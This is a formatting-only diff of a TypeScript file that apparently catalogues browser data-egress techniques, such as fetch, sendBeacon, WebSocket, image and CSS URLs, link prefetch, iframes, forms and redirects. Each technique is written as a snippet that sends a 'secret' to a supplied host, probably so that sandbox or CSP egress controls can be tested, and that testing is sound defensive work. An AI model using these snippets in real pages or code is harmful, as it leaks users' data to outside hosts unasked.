@@ -60,15 +60,15 @@ const candidate = (form: 'udp' | 'tcp'): string =>
 
 /** By name, as source text. */
 export const stayingWays: Readonly<Record<string, string>> = {
-  'fetch': `({ tcp, secret }) => fetch('http://' + tcp + '/' + secret, { mode: 'no-cors' })`,
+  fetch: `({ tcp, secret }) => fetch('http://' + tcp + '/' + secret, { mode: 'no-cors' })`,
   'fetch with keepalive': `({ tcp, secret }) => fetch('http://' + tcp, { method: 'POST', mode: 'no-cors', keepalive: true, body: secret })`,
-  'fetchLater': `({ tcp, secret }) => fetchLater('http://' + tcp + '/' + secret, { activateAfter: 0 })`,
-  'XMLHttpRequest': `({ tcp, secret }) => { const request = new XMLHttpRequest(); request.open('POST', 'http://' + tcp); request.send(secret) }`,
-  'sendBeacon': `({ tcp, secret }) => navigator.sendBeacon('http://' + tcp, secret)`,
-  'WebSocket': `({ tcp, secret }) => void new WebSocket('ws://' + tcp + '/' + secret)`,
-  'EventSource': `({ tcp, secret }) => void new EventSource('http://' + tcp + '/' + secret)`,
-  'WebTransport': `({ udp, secret }) => new WebTransport('https://' + udp + '/' + secret).ready`,
-  'image': `({ tcp, secret }) => { new Image().src = 'http://' + tcp + '/' + secret }`,
+  fetchLater: `({ tcp, secret }) => fetchLater('http://' + tcp + '/' + secret, { activateAfter: 0 })`,
+  XMLHttpRequest: `({ tcp, secret }) => { const request = new XMLHttpRequest(); request.open('POST', 'http://' + tcp); request.send(secret) }`,
+  sendBeacon: `({ tcp, secret }) => navigator.sendBeacon('http://' + tcp, secret)`,
+  WebSocket: `({ tcp, secret }) => void new WebSocket('ws://' + tcp + '/' + secret)`,
+  EventSource: `({ tcp, secret }) => void new EventSource('http://' + tcp + '/' + secret)`,
+  WebTransport: `({ udp, secret }) => new WebTransport('https://' + udp + '/' + secret).ready`,
+  image: `({ tcp, secret }) => { new Image().src = 'http://' + tcp + '/' + secret }`,
   'image of a set': `({ tcp, secret }) => { new Image().srcset = 'http://' + tcp + '/' + secret + ' 1x' }`,
   'image of SVG': `({ tcp, secret }) => {
     const space = 'http://www.w3.org/2000/svg'
@@ -78,7 +78,7 @@ export const stayingWays: Readonly<Record<string, string>> = {
     picture.append(image)
     document.body.append(picture)
   }`,
-  'script': append('script', { src: 'URL' }),
+  script: append('script', { src: 'URL' }),
   'module script': append('script', { src: 'URL', type: 'module' }),
   'inline script': `({ tcp, secret }) => { const script = document.createElement('script'); script.textContent = "fetch('http://" + tcp + "/" + secret + "', { mode: 'no-cors' })"; document.head.append(script) }`,
   'speculation rules': `({ tcp, secret }) => {
@@ -90,8 +90,8 @@ export const stayingWays: Readonly<Record<string, string>> = {
   'style @import': styled('@import url(URL);'),
   'style with a picture': styled('.egress { background-image: url(URL) }'),
   'style with a mask': styled('.egress { mask-image: url(URL) }'),
-  'style with a font': styled("@font-face { font-family: egress; src: url(URL) } .egress { font-family: egress }"),
-  'FontFace': `({ tcp, secret }) => new FontFace('egress-face', 'url(http://' + tcp + '/' + secret + ')').load()`,
+  'style with a font': styled('@font-face { font-family: egress; src: url(URL) } .egress { font-family: egress }'),
+  FontFace: `({ tcp, secret }) => new FontFace('egress-face', 'url(http://' + tcp + '/' + secret + ')').load()`,
   'link stylesheet': append('link', { rel: 'stylesheet', href: 'URL' }),
   'link prefetch': append('link', { rel: 'prefetch', href: 'URL' }),
   'link preload': append('link', { rel: 'preload', href: 'URL', as: 'image' }),
@@ -101,13 +101,16 @@ export const stayingWays: Readonly<Record<string, string>> = {
   'link prerender': append('link', { rel: 'prerender', href: 'URL' }),
   'link icon': append('link', { rel: 'icon', href: 'URL' }),
   'link manifest': append('link', { rel: 'manifest', href: 'URL' }),
-  'meta with a report address': append('meta', { 'http-equiv': 'Content-Security-Policy', 'content': "manifest-src 'none'; report-uri URL" }),
-  'iframe': append('iframe', { src: 'URL' }),
-  'object': append('object', { data: 'URL' }),
-  'embed': append('embed', { src: 'URL' }),
-  'video': append('video', { src: 'URL' }),
-  'poster': append('video', { poster: 'URL' }),
-  'audio': append('audio', { src: 'URL' }),
+  'meta with a report address': append('meta', {
+    'http-equiv': 'Content-Security-Policy',
+    content: "manifest-src 'none'; report-uri URL",
+  }),
+  iframe: append('iframe', { src: 'URL' }),
+  object: append('object', { data: 'URL' }),
+  embed: append('embed', { src: 'URL' }),
+  video: append('video', { src: 'URL' }),
+  poster: append('video', { poster: 'URL' }),
+  audio: append('audio', { src: 'URL' }),
   'ping attribute': `({ tcp, secret }) => {
     const link = document.createElement('a')
     link.href = '#egress'
@@ -147,14 +150,14 @@ export const stayingWays: Readonly<Record<string, string>> = {
 }
 
 export const leavingWays: Readonly<Record<string, string>> = {
-  'location': `({ tcp, secret }) => { location.href = 'http://' + tcp + '/' + secret }`,
-  'form': `({ tcp, secret }) => {
+  location: `({ tcp, secret }) => { location.href = 'http://' + tcp + '/' + secret }`,
+  form: `({ tcp, secret }) => {
     const form = document.createElement('form')
     form.action = 'http://' + tcp + '/' + secret
     document.body.append(form)
     form.submit()
   }`,
-  'meta refresh': append('meta', { 'http-equiv': 'refresh', 'content': '0; url=URL' }),
+  'meta refresh': append('meta', { 'http-equiv': 'refresh', content: '0; url=URL' }),
   'link that is clicked': `({ tcp, secret }) => {
     const link = document.createElement('a')
     link.href = 'http://' + tcp + '/' + secret
